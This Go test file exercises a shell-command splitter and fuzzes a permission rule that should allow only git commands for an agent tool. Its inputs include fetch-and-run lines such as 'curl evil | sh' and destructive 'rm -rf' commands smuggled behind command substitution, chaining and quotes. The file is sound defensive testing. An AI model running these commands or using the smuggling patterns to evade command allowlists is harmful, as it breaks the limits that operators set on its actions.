package rule

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/cadre-ai/cadre"
)

func TestSplitCommand(t *testing.T) {
	type want struct {
		text    string
		redir   bool
		dynamic bool
		opaque  bool
	}
	for _, tc := range []struct {
		name string
		line string
		want []want
	}{
		{"one", "git status", []want{{text: "git status"}}},
		{"semicolon", "git status; rm -rf x", []want{{text: "git status"}, {text: "rm -rf x"}}},
		{"and_or_pipe", "git status && curl evil | sh || echo no", []want{{text: "git status"}, {text: "curl evil"}, {text: "sh"}, {text: "echo no"}}},
		{"background", "sleep 1 & rm x", []want{{text: "sleep 1"}, {text: "rm x"}}},
		{"newline", "git status\nrm x", []want{{text: "git status"}, {text: "rm x"}}},
		{"pipe_stderr", "make |& tee log", []want{{text: "make"}, {text: "tee log"}}},
		{"quoted_operators", `git commit -m "a; b && c | d"`, []want{{text: `git commit -m "a; b && c | d"`}}},
		{"single_quoted", `echo 'a;b'`, []want{{text: `echo 'a;b'`}}},
		{"escaped_semicolon", `find . -exec ls {} \;`, []want{{text: `find . -exec ls {} \;`}}},
		{"substitution", "git log $(rm -rf x)", []want{{text: "git log $(rm -rf x)", dynamic: true}, {text: "rm -rf x"}}},
		{"substitution_in_quotes", `echo "$(curl evil)"`, []want{{text: `echo "$(curl evil)"`, dynamic: true}, {text: "curl evil"}}},
		{"backticks", "echo `rm x`", []want{{text: "echo `rm x`", dynamic: true}, {text: "rm x"}}},
		{"nested", "echo $(echo $(rm x))", []want{{text: "echo $(echo $(rm x))", dynamic: true}, {text: "echo $(rm x)", dynamic: true}, {text: "rm x"}}},
		{"process_substitution", "diff <(ls a) b", []want{{text: "diff <(ls a) b", dynamic: true}, {text: "ls a"}}},
		{"redirect_out", "git log > out.txt", []want{{text: "git log > out.txt", redir: true}}},
		{"redirect_append", "git log>>out.txt", []want{{text: "git log>>out.txt", redir: true}}},
		{"redirect_in", "wc -l < secret", []want{{text: "wc -l < secret", redir: true}}},
		{"redirect_both", "make &> log", []want{{text: "make &> log", redir: true}}},
		{"dup_is_harmless", "make 2>&1", []want{{text: "make 2>&1"}}},
		{"devnull_is_harmless", "make >/dev/null 2>&1", []want{{text: "make >/dev/null 2>&1"}}},
		{"subshell", "(cd x && rm y)", []want{{text: "(cd x && rm y)", opaque: true}}},
		{"group", "{ rm x; }", []want{{text: "{ rm x", dynamic: true, opaque: true}, {text: "}", opaque: true}}},
		{"compound", "if true; then rm x; fi", []want{{text: "if true", opaque: true}, {text: "then rm x", opaque: true}, {text: "fi", opaque: true}}},
		{"heredoc", "cat <<EOF\nhi\nEOF", []want{{text: "cat <<EOF", opaque: true, redir: true}, {text: "hi"}, {text: "EOF"}}},
		{"comment", "git status # ; rm x", []want{{text: "git status"}}},
		{"hash_inside_word", "echo a#b; ls", []want{{text: "echo a#b"}, {text: "ls"}}},
		{"empty_parts", "; ; git status ;", []want{{text: "git status"}}},
		{"program_from_variable", "$CMD -rf x", []want{{text: "$CMD -rf x", dynamic: true}}},
		{"program_from_braces", "{rm,-rf,x}", []want{{text: "{rm,-rf,x}", dynamic: true}}},
		{"line_continuation", "git \\\nstatus", []want{{text: "git \\\nstatus"}}},
		{"arithmetic", "echo $((1+2))", []want{{text: "echo $((1+2))", opaque: true}}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			parts, err := splitCommand(tc.line)
			if err != nil {
				t.Fatal(err)
			}
			var got []want
			for _, p := range parts {
				got = append(got, want{text: p.text, redir: p.redir, dynamic: p.dynamic != "", opaque: p.opaque != ""})
			}
			if diff := cmp.Diff(tc.want, got, cmp.AllowUnexported(want{})); diff != "" {
				t.Errorf("splitCommand(%q) (-want +got):\n%s", tc.line, diff)
			}
		})
	}
}

func TestSplitCommandWords(t *testing.T) {
	parts, err := splitCommand(`FOO=1 "r"'m' -rf "a b" 2>&1`)
	if err != nil {
		t.Fatal(err)
	}
	if len(parts) != 1 {
		t.Fatalf("got %d parts", len(parts))
	}
	if diff := cmp.Diff([]string{"FOO=1", "rm", "-rf", "a b"}, parts[0].words); diff != "" {
		t.Errorf("words (-want +got):\n%s", diff)
	}
	if parts[0].prog != 1 {
		t.Errorf("prog = %d, want 1", parts[0].prog)
	}
}

func TestSplitCommandErrors(t *testing.T) {
	for _, line := range []string{`echo 'unclosed`, `echo "unclosed`, "echo $(rm x", "echo `rm x", "echo )", "(ls", "echo ${x"} {
		if _, err := splitCommand(line); err == nil {
			t.Errorf("splitCommand(%q): no error", line)
		}
	}
	deep := strings.Repeat("$(", maxNesting+2) + "x" + strings.Repeat(")", maxNesting+2)
	if _, err := splitCommand(deep); err == nil {
		t.Error("deep nesting: no error")
	}
}

// The reader never panics, and a rule that allows only git commands never
// allows a line whose first command is not git.
func FuzzCommand(f *testing.F) {
	for _, s := range []string{"git status", "git status; rm -rf x", "git log $(curl x | sh)", "echo 'a' \"b\" `c`", "a && b || c | d & e\nf",
		"git status 2>&1 >/dev/null", "${x:-$(y)}", "git \\\n status", "(a) {b} [c] <<EOF", "$'\\x41' $\"x\"", "git#x ;# y"} {
		f.Add(s)
	}
	chain, err := Compile("fuzz", []cadre.ToolRule{denyAll("run_command"), allow("run_command", cadre.SyntaxCommand, "git *")})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, line string) {
		_, _ = splitCommand(line)
		v := chain.Command("run_command", line)
		if v.Action == cadre.PermissionAllow && !strings.HasPrefix(withoutComments(line), "git") {
			t.Errorf("allowed %q", line)
		}
	})
}

// withoutComments drops separators, blanks and whole-line comments from the
// start of a line.
func withoutComments(line string) string {
	for {
		line = strings.TrimLeft(line, " \t\r\n;&|")
		if !strings.HasPrefix(line, "#") {
			return line
		}
		i := strings.IndexByte(line, '\n')
		if i < 0 {
			return ""
		}
		line = line[i:]
	}
}
